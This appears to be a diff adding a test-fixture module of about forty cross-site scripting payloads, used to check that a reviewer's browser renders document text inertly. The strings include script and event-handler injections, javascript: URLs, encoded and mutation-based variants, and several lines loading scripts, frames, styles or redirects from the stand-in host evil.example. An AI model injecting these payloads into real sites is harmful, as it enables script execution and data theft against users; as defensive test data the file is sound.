@@ -1,0 +1,48 @@
+/**
+ * What a document's author, or somebody who may only name things, would write to have it run in a reviewer's browser: each payload shows
+ * a dialog or fetches from another host where it is taken for anything but text.
+ */
+const AWAY = "https://evil.example";
+
+export const DISPLAY_PAYLOADS: readonly string[] = [
+  "<script>alert(1)</script>",
+  `<script src=${AWAY}/x.js></script>`,
+  "</script><script>alert(2)</script>",
+  "<img src=x onerror=alert(3)>",
+  `<img src=${AWAY}/pixel.png>`,
+  '"><img src=x onerror=alert(4)>',
+  "'><svg/onload=alert(5)>",
+  "<svg><script>alert(6)</script></svg>",
+  "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
+  "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(8)>",
+  "<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>",
+  `<iframe src=${AWAY}></iframe>`,
+  "<object data=javascript:alert(10)></object>",
+  `<embed src=${AWAY}/x.swf>`,
+  `<link rel=stylesheet href=${AWAY}/x.css>`,
+  `<style>@import url(${AWAY}/y.css);</style>`,
+  `<style>*{background:url(${AWAY}/z.png)}</style>`,
+  `<base href=${AWAY}/>`,
+  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
+  `<form action=${AWAY}><button autofocus onfocus=alert(11)>`,
+  "<input autofocus onfocus=alert(12)>",
+  "<details open ontoggle=alert(13)>",
+  "<video><source onerror=alert(14)></video>",
+  "<audio src=x onerror=alert(15)>",
+  "<body onload=alert(16)>",
+  "<marquee onstart=alert(17)>",
+  "<a href=javascript:alert(18) autofocus>x</a>",
+  "javascript:alert(19)",
+  "data:text/html,<script>alert(20)</script>",
+  `[x](javascript:alert(21)) ![y](${AWAY}/m.png)`,
+  "{{constructor.constructor('alert(22)')()}}",
+  "$" + "{alert(23)}`-alert(24)-`",
+  "' onmouseover='alert(25)' x='",
+  '" style="position:fixed;inset:0" onpointerenter="alert(26)',
+  "&lt;img src=x onerror=alert(27)&gt;",
+  "&#60;script&#62;alert(28)&#60;/script&#62;",
+  "\\u003cscript\\u003ealert(29)\\u003c/script\\u003e",
+  "<!--<img src=--><img src=x onerror=alert(30)>//-->",
+  "<noscript><p title='</noscript><img src=x onerror=alert(31)>'>",
+];
